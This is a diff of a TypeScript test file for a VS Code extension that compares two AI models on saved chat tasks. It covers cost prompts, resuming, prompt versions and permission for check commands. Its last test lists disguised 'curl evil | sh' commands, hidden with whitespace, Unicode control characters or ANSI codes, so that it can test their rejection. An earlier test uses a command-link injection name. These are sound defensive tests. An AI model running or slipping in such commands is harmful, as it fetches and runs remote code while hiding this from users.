@@ -2,16 +2,21 @@ import assert from 'node:assert/strict';
 import fs from 'node:fs';
 import path from 'node:path';
 import { test, type TestContext } from 'node:test';
+import * as vscode from 'vscode';
 import type { Answer, Question, Thread } from '../../../src/core/chat/conversation.ts';
-import { parseTask } from '../../../src/core/evaluation/keptTask.ts';
 import type { ModelRef } from '../../../src/core/common/types.ts';
+import { parsePromptFile } from '../../../src/core/chat/promptFiles.ts';
+import { parseTask } from '../../../src/core/evaluation/keptTask.ts';
 import type { CallEvent, CallResult, ModelCall } from '../../../src/core/gateway/call.ts';
 import { ModelGuard, type Ended } from '../../../src/editor/evaluation/guard.ts';
 import { keepTask } from '../../../src/editor/evaluation/keepTask.ts';
 import { runTasks } from '../../../src/editor/evaluation/runTasks.ts';
+import { UnfinishedComparison } from '../../../src/editor/evaluation/unfinished.ts';
 import { TaskFolders } from '../../../src/editor/evaluation/taskFolder.ts';
+import { settle } from '../../support/settle.ts';
 import { startHost } from '../../support/vscode/host.ts';
-import { Memory } from '../../support/window.ts';
+import { allowCommands, runCheckCommand } from '../../../src/editor/evaluation/commandChecks.ts';
+import { Memory, setEnv } from '../../support/window.ts';
 
 /** From an answer in the chat to a test, a comparison of two models on it, and a word when a model changes. */
 
@@ -42,9 +47,16 @@ function threadWith(answer: string, over: Partial<Answer> = {}): { thread: Threa
   return { thread, answer: turn };
 }
 
+const REVIEW = parsePromptFile('review.md', '---\nversion: 2\n---\nReview strictly: {{input}}', 'workspace');
+const PROMPTS = new Map(REVIEW ? [['review', REVIEW]] : []);
+
+const trusted = (): boolean => true;
+
 function rig(t: TestContext, files: Record<string, string> = { 'sum.ts': SUM }) {
   const host = startHost(t, { files });
-  return { host, folders: new TaskFolders(host.uri('storage')) };
+  const storage = host.uri('storage');
+  const own = { unfinished: new UnfinishedComparison(storage), state: new Memory() };
+  return { host, folders: new TaskFolders(storage), ...own, prompts: () => Promise.resolve(PROMPTS) };
 }
 
 test('an answer is kept with its files before and after, for the team, and can be read back', async (t) => {
@@ -76,19 +88,24 @@ test('a secret, an unfinished answer and an escape from the dialog keep nothing'
   assert.equal((await folders.read()).tasks.length, 0);
 });
 
-const settingsOf = (mid: ModelRef, frontier: ModelRef) => ({
-  tiers: { local: [], mid: [mid], frontier: [frontier] },
-  localAnswers: [],
-  providers: new Map(),
-  consent: new Set<string>(),
-  private: false,
-});
+const configWith = (one: ModelRef, two: ModelRef): never =>
+  ({
+    settings: {
+      tiers: { local: [], mid: [one], frontier: [two] },
+      localAnswers: [],
+      providers: new Map([
+        ['cloud', { name: 'cloud', kind: 'openai', baseUrl: 'https://api.example.com/v1', headers: {} }],
+      ]),
+      consent: new Set(['https://api.example.com']),
+      private: false,
+    },
+  }) as never;
 
 const result = (outcome: CallResult['outcome'], nanoUsd: number): CallResult =>
   ({ outcome, failure: null, place: null, cost: { nanoUsd } }) as unknown as CallResult;
 
 test('two models are compared on the kept task; both reports are in the workspace, and the cost is what was asked', async (t) => {
-  const { host, folders } = rig(t);
+  const { host, folders, unfinished, state, prompts } = rig(t);
   const { thread, answer } = threadWith(RIGHT);
   host.willType(/short name/, 'Add adds');
   host.willPick(/Where to keep/, 'For the team');
@@ -105,9 +122,9 @@ test('two models are compared on the kept task; both reports are in the workspac
   };
   const one = { provider: 'cloud', model: 'one' };
   const two = { provider: 'cloud', model: 'two' };
-  const config = { settings: settingsOf(one, two) } as never;
+  const config = configWith(one, two);
   host.willClick(/^Compare cloud\/one and cloud\/two on 1 task/, 'Compare');
-  await runTasks({ config, gateway, folders, trusted: () => true }, { a: 'cloud/one', b: 'cloud/two' });
+  await runTasks({ config, gateway, folders, trusted, unfinished, state, prompts }, { a: 'cloud/one', b: 'cloud/two' });
   assert.match(
     host.messages.find(({ modal }) => modal)?.detail ?? '',
     /will likely cost \$0\.0080, and at most \$0\.04/,
@@ -122,16 +139,174 @@ test('two models are compared on the kept task; both reports are in the workspac
   assert.match(report, /makes what you kept: It makes something else of sum\\?\.ts than you kept/);
   assert.match(host.text('.gearshift/reports/kept-tasks.xml') ?? '', /tests="2" failures="2"/);
   // Who does not agree to the price is asked nothing.
-  await runTasks({ config, gateway, folders, trusted: () => true }, { a: 'cloud/one', b: 'cloud/two' });
+  await runTasks({ config, gateway, folders, trusted, unfinished, state, prompts }, { a: 'cloud/one', b: 'cloud/two' });
   assert.equal(calls.length, 4);
 });
 
+test('a stopped comparison goes on after a restart, and asks only what is left; both answers are shown as a diff', async (t) => {
+  const { host, folders, unfinished, state, prompts } = rig(t);
+  const { thread, answer } = threadWith(RIGHT);
+  host.willType(/short name/, 'Add adds');
+  host.willPick(/Where to keep/, 'For the team');
+  await keepTask(folders, thread, answer);
+  const one = { provider: 'cloud', model: 'one' };
+  const two = { provider: 'cloud', model: 'two' };
+  const config = configWith(one, two);
+  const asked: (string | undefined)[] = [];
+  let stopAfter = 1;
+  const gateway = {
+    estimate: () => Promise.resolve({ model: one, inputTokens: 1, likely: 1e6, atMost: 9e6 }),
+    async *stream(call: ModelCall): AsyncGenerator<CallEvent> {
+      if (stopAfter-- === 0) return void (yield { kind: 'end', result: result('cancelled', 0) });
+      asked.push(call.chain[0]?.model);
+      yield { kind: 'text', text: call.chain[0]?.model === 'one' ? RIGHT : WRONG };
+      yield { kind: 'end', result: result('done', 1e6) };
+    },
+  };
+  const sides = { a: 'cloud/one', b: 'cloud/two' };
+  host.willClick(/^Compare cloud\/one/, 'Compare');
+  await runTasks({ config, gateway, folders, trusted, unfinished, state, prompts }, sides);
+  assert.deepEqual(asked, ['one']);
+  // Another window, with nothing but the file.
+  const later = new UnfinishedComparison(host.uri('storage'));
+  stopAfter = Infinity;
+  host.willClick(/was stopped after 1 answers?/, 'Continue');
+  host.willClick(/^Compare cloud\/one/, 'Compare');
+  host.willClick(/too close to call/, 'Show Answers');
+  host.willPick(/Both answers/, 'Add adds');
+  await runTasks({ config, gateway, folders, trusted, unfinished: later, state, prompts }, undefined);
+  assert.deepEqual(asked, ['one', 'two', 'one', 'two']);
+  assert.match(host.messages.findLast(({ modal }) => modal)?.detail ?? '', /likely cost \$0\.0030/, 'for what is left');
+  assert.equal(await later.read((await folders.read()).tasks), undefined, 'it is complete');
+  await settle();
+  const [command, left, right, title] = host.executed.findLast(([name]) => name === 'vscode.diff') ?? [];
+  assert.equal(command, 'vscode.diff');
+  assert.match(String(title), /^Add adds: cloud\/one and cloud\/two/);
+  const text = async (uri: unknown): Promise<string> =>
+    (await vscode.workspace.openTextDocument(uri as vscode.Uri)).getText();
+  assert.deepEqual([await text(left), await text(right)], [RIGHT, WRONG]);
+});
+
+test('the prompts of now are a side: the question is made again with them, and the ledger has their version', async (t) => {
+  const { host, folders, unfinished, state, prompts } = rig(t);
+  const { thread, answer } = threadWith('Fine.');
+  const [question] = thread.turns as [Question];
+  const used = {
+    name: 'review',
+    version: '1',
+    origin: 'workspace',
+    hash: 'aaaaaaaa',
+    text: 'Review: the pool',
+  } as const;
+  const asked = { ...thread, turns: [{ ...question, text: '/review the pool', prompt: used }, answer] };
+  host.willType(/short name/, 'Pool');
+  host.willPick(/Where to keep/, 'For the team');
+  await keepTask(folders, asked, answer);
+  const calls: ModelCall[] = [];
+  const one = { provider: 'cloud', model: 'one' };
+  const gateway = {
+    estimate: () => Promise.resolve({ model: one, inputTokens: 1, likely: 1e6, atMost: 9e6 }),
+    async *stream(call: ModelCall): AsyncGenerator<CallEvent> {
+      calls.push(call);
+      yield { kind: 'text', text: 'Fine.' };
+      yield { kind: 'end', result: result('done', 1e6) };
+    },
+  };
+  host.willPick(/Compare which model/, 'cloud/one');
+  host.willPick(/With which model/, 'cloud/one with the prompts of now');
+  host.willClick(/^Compare cloud\/one and cloud\/one with the prompts of now/, 'Compare');
+  const config = configWith(one, { provider: 'cloud', model: 'two' });
+  await runTasks({ config, gateway, folders, trusted, unfinished, state, prompts }, undefined);
+  const sent = calls.map(({ request, promptVersion }) => [
+    request.kind === 'chat' ? request.messages.at(-1)?.content : '',
+    promptVersion?.split(' ')[0],
+  ]);
+  assert.deepEqual(sent.slice(0, 2), [
+    ['Review: the pool', '1'],
+    ['Review strictly: the pool', '2'],
+  ]);
+});
+
+test('a command of a task runs only after it was allowed, once, on the files that the answer makes', async (t) => {
+  const { host, folders, unfinished, state, prompts } = rig(t);
+  const { thread, answer } = threadWith(RIGHT);
+  host.willType(/short name/, 'Add adds');
+  host.willPick(/Where to keep/, 'For the team');
+  await keepTask(folders, thread, answer);
+  const file = '.gearshift/tasks/add-adds.md';
+  const check = `node -e "process.exit(require('fs').readFileSync('sum.ts','utf8').includes('a + b')?0:3)"`;
+  const text = (host.text(file) ?? '').replace('  - keeps', `  - command ${JSON.stringify(check)}`);
+  await vscode.workspace.fs.writeFile(host.uri(file), new TextEncoder().encode(text));
+  const one = { provider: 'cloud', model: 'one' };
+  const two = { provider: 'cloud', model: 'two' };
+  let asked = 0;
+  const gateway = {
+    estimate: () => Promise.resolve({ model: one, inputTokens: 1, likely: 1e6, atMost: 9e6 }),
+    async *stream(call: ModelCall): AsyncGenerator<CallEvent> {
+      asked++;
+      yield { kind: 'text', text: call.chain[0]?.model === 'one' ? RIGHT : WRONG };
+      yield { kind: 'end', result: result('done', 1e6) };
+    },
+  };
+  const parts = { config: configWith(one, two), gateway, folders, trusted, unfinished, state, prompts };
+  const sides = { a: 'cloud/one', b: 'cloud/two' };
+  await runTasks(parts, sides);
+  assert.equal(asked, 0, 'nothing without the permission');
+  assert.ok(host.messages.findLast(({ modal }) => modal)?.detail?.includes(check), 'the user reads what would run');
+  host.willClick(/Allow the kept tasks/, 'Allow');
+  host.willClick(/^Compare cloud\/one/, 'Compare');
+  await runTasks(parts, sides);
+  const report = host.text('.gearshift/reports/kept-tasks.md') ?? '';
+  assert.match(report, /\| Add adds \| 2 of 2 passed \|.*\| 0 of 2 passed \|/);
+  assert.match(report, /It ended with 3/);
+  assert.equal(host.text('sum.ts'), SUM, 'the file of the user stays');
+  const before = host.messages.length;
+  await runTasks(parts, sides);
+  assert.ok(!host.messages.slice(before).some(({ text: words }) => words.startsWith('Allow')), 'asked once');
+  host.trusted = false;
+  state.values.clear();
+  await assert.rejects(runTasks(parts, sides));
+});
+
+test('the model of before that is gone is compared by its stored answer, and the report says so', async (t) => {
+  const { host, folders, unfinished, state, prompts } = rig(t);
+  const { thread, answer } = threadWith(RIGHT);
+  host.willType(/short name/, 'Add adds');
+  host.willPick(/Where to keep/, 'For the team');
+  await keepTask(folders, thread, answer);
+  const one = { provider: 'cloud', model: 'one' };
+  const two = { provider: 'cloud', model: 'two' };
+  const gateway = {
+    estimate: () => Promise.resolve({ model: one, inputTokens: 1, likely: 1e6, atMost: 9e6 }),
+    async *stream(call: ModelCall): AsyncGenerator<CallEvent> {
+      if (call.chain[0]?.model === 'one') {
+        const gone = { ...result('failed', 0), failure: { kind: 'model-missing' }, place: PLACE };
+        return void (yield { kind: 'end', result: gone as CallResult });
+      }
+      yield { kind: 'text', text: WRONG };
+      yield { kind: 'end', result: result('done', 1e6) };
+    },
+  };
+  host.willClick(/^Compare cloud\/one/, 'Compare');
+  await runTasks(
+    { config: configWith(one, two), gateway, folders, trusted, unfinished, state, prompts },
+    { a: 'cloud/one', b: 'cloud/two' },
+  );
+  const report = host.text('.gearshift/reports/kept-tasks.md') ?? '';
+  assert.match(report, /cloud\/one is gone: its stored answer is compared/);
+  assert.match(report, /\| Add adds \| 2 of 2 passed \|.*\| 0 of 2 passed \|/);
+});
+
 test('without a task the command says how to keep one; a broken file is named with its line', async (t) => {
-  const { host, folders } = rig(t, { '.gearshift/tasks/bad.md': '---\nname: x\ntier: top\n---\n' });
-  const parts = { config: {} as never, gateway: {} as never, folders, trusted: () => true };
+  const { host, folders, unfinished, state, prompts } = rig(t, {
+    '.gearshift/tasks/bad.md': '---\nname: x\ntier: top\n---\n',
+  });
+  const parts = { config: {} as never, gateway: {} as never, folders, trusted, unfinished, state, prompts };
   await assert.rejects(runTasks(parts, undefined), /No task is kept yet/);
   assert.match(host.messages[0]?.text ?? '', /^\.gearshift\/tasks\/bad\.md:3: The tier of a task is one of/);
 });
+
+const PLACE = { provider: 'cloud', host: 'lab.example', model: 'one', kind: 'openai' };
 
 const ended = (modelReturned: string | null, over: Partial<Ended> = {}): Ended =>
   ({
@@ -204,7 +379,7 @@ test('T17 an answer that names a secret file, a link or a place outside puts non
 });
 
 test('T13 tasks and reports are not written through links of a repository, and tasks are not read through them', async (t) => {
-  const { host, folders } = rig(t);
+  const { host, folders, ...rest } = rig(t);
   const outside = path.join(host.root, 'outside');
   fs.mkdirSync(outside);
   fs.writeFileSync(path.join(outside, 'kept.txt'), 'as it was');
@@ -219,7 +394,7 @@ test('T13 tasks and reports are not written through links of a repository, and t
   const kept = await keepAndRead();
   assert.equal(kept, 'add-adds-2.md', 'the name of the link is taken');
   const one = { provider: 'cloud', model: 'one' };
-  const config = { settings: settingsOf(one, { provider: 'cloud', model: 'two' }) } as never;
+  const config = configWith(one, { provider: 'cloud', model: 'two' });
   const gateway = {
     estimate: () => Promise.resolve(undefined),
     async *stream(): AsyncGenerator<CallEvent> {
@@ -228,7 +403,7 @@ test('T13 tasks and reports are not written through links of a repository, and t
     },
   };
   host.willClick(/^Compare/, 'Compare');
-  const parts = { config, gateway: gateway as never, folders, trusted: () => true };
+  const parts = { config, gateway: gateway as never, folders, trusted, ...rest };
   await assert.rejects(runTasks(parts, { a: 'cloud/one', b: 'cloud/two' }), /leads to another place/);
   assert.deepEqual(fs.readdirSync(outside), ['kept.txt']);
   assert.equal(fs.readFileSync(path.join(outside, 'kept.txt'), 'utf8'), 'as it was');
@@ -248,7 +423,7 @@ test('T13 tasks and reports are not written through links of a repository, and t
 });
 
 test('T26 a task cannot choose the tier that it is asked as, and the first use of a tier at a host is named', async (t) => {
-  const { host, folders } = rig(t);
+  const { host, folders, ...rest } = rig(t);
   const { thread, answer } = threadWith(RIGHT, { tier: 'local' });
   host.willType(/short name/, 'Add adds');
   host.willPick(/Where to keep/, 'For the team');
@@ -267,13 +442,15 @@ test('T26 a task cannot choose the tier that it is asked as, and the first use o
   const agreed: string[] = [];
   const config = {
     settings: {
-      ...settingsOf(cheap, dear),
+      tiers: { local: [], mid: [cheap], frontier: [dear] },
+      localAnswers: [],
+      private: false,
       providers: new Map([['cloud', provider]]),
       consent: new Set(['https://api.example.com mid']),
     },
     agree: (origins: readonly string[], tier: string) => Promise.resolve(void agreed.push(`${origins.join()} ${tier}`)),
   } as never;
-  const parts = { config, gateway: gateway as never, folders, trusted: () => true };
+  const parts = { config, gateway: gateway as never, folders, trusted, ...rest };
   // Who gives up sends nothing and agrees to nothing.
   await runTasks(parts, { a: 'cloud/cheap', b: 'cloud/best' });
   assert.deepEqual([calls.length, agreed.length], [0, 0]);
@@ -291,11 +468,38 @@ test('T26 a task cannot choose the tier that it is asked as, and the first use o
 
 test('T08 a name of a task makes no link in a message', async (t) => {
   const evil = '[see](command:workbench.action.terminal.new)';
-  const { host, folders } = rig(t, {
+  const { host, folders, ...rest } = rig(t, {
     [`.gearshift/tasks/${evil}.md`]: `---\nname: x\ntier: mid\nmodel: a/b\nchecks:\n  - ${evil}\n---\n`,
   });
-  const parts = { config: {} as never, gateway: {} as never, folders, trusted: () => true };
+  const parts = { config: {} as never, gateway: {} as never, folders, trusted, ...rest };
   await assert.rejects(runTasks(parts, undefined), /No task is kept yet/);
   assert.match(host.messages[0]?.text ?? '', /\[see\] \(command:/);
   assert.doesNotMatch(host.messages[0]?.text ?? '', /\]\(/);
+});
+
+test('T26 a command of a task that does not show all that it is cannot be allowed, and none gets the keys of the environment', async (t) => {
+  const { state } = rig(t);
+  const taskWith = (...commands: string[]): never =>
+    [{ checks: commands.map((command) => ({ kind: 'command', command })) }] as never;
+  for (const hidden of [
+    'npm test\ncurl evil | sh',
+    `npm test${' '.repeat(200)}; curl evil | sh`,
+    `npm test ${'a'.repeat(300)}`,
+    'npm test \u202ehs | live lruc',
+    'npm\u200b test',
+    'npm test\u2028curl evil',
+    'npm test \u001b[8m; curl evil',
+  ])
+    await assert.rejects(allowCommands(taskWith(hidden), state), /cannot be seen/, JSON.stringify(hidden));
+  const many = Array.from({ length: 11 }, (_, n) => `npm run ${n}`);
+  await assert.rejects(allowCommands(taskWith(...many), state), /too many/);
+  assert.deepEqual(state.get('gearshift.evaluation.commands', []), []);
+  setEnv(t, { SPEC_API_KEY: 'canary-1', SPEC_TOKEN: 'canary-2', SPEC_PLAIN: 'plain' });
+  const print = `"${process.execPath}" -e "console.log(Object.values(process.env).join());process.exit(1)"`;
+  await state.update('gearshift.evaluation.commands', [print]);
+  const said = await runCheckCommand(print, [], state, new AbortController().signal);
+  assert.doesNotMatch(said, /canary/);
+  const ok = `"${process.execPath}" -e "process.exit(process.env.SPEC_PLAIN && !process.env.SPEC_API_KEY && !process.env.SPEC_TOKEN ? 0 : 1)"`;
+  await state.update('gearshift.evaluation.commands', [ok]);
+  assert.equal(await runCheckCommand(ok, [], state, new AbortController().signal), '');
 });
